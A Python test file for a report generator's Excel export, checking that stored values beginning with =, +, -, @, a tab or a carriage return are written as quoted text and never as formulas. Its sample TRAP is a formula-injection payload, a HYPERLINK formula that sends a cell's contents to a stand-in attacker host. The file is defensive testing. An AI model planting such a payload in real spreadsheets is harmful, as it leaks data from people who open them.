"""Excel cells written from stored data stay text: a unit named like a formula, or a post that
starts with =, +, -, @, a tab or a carriage return, never becomes a formula in the workbook, and
reads back exactly as written."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from yuqing.db import transaction
from yuqing.org import service as org
from yuqing.reports import service
from yuqing.reports.document import Document, Table
from yuqing.reports.render import to_xlsx
from yuqing.runtime import Runtime

TRAP = '=HYPERLINK("http://evil.example/?x="&A3,"点此查看")'
STARTS = [TRAP, "+86 25 1234", "-1+1", "@SUM(1,2)", "\t=1+1", "\r=1+1", "普通文字", "1+1="]


def cells(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def test_every_cell_from_stored_data_is_text_never_a_formula() -> None:
    table = Table(
        columns=("序号", "舆情事件"), rows=tuple((str(n), text) for n, text in enumerate(STARTS, 1))
    )
    document = Document(
        kind="response_table",
        banner="网络舆情预警响应情况表",
        title=TRAP,
        issuer="@单位",
        issued_at=dt.datetime(2026, 11, 20, 2, 0, tzinfo=dt.UTC),
        zone="Asia/Shanghai",
        sheets=[("响应情况表", table)],
    )
    sheet = cells(to_xlsx(document))

    title = sheet["A1"]
    assert title.data_type == "s" and title.value == TRAP and title.quotePrefix
    written = [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet["B"][3:]]
    assert [value for value, _, _ in written] == STARTS  # as stored, no apostrophe added to the text
    assert all(kind == "s" for _, kind, _ in written)
    assert [quoted for _, _, quoted in written] == [True] * 6 + [False, False]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_unit_named_like_a_formula_heads_the_response_table_as_text(rt: Runtime) -> None:
    with transaction(rt.sessions) as session:
        org.create_unit(session, TRAP, kind="government", regions=["南京"])
    made = service.generate(
        rt, "response_table", {"from": "2026-11-01", "to": "2026-11-30", "unit": TRAP}, "xlsx"
    )
    title = cells(made.content)["A1"]
    assert title.data_type == "s" and str(title.value).startswith(TRAP) and title.quotePrefix
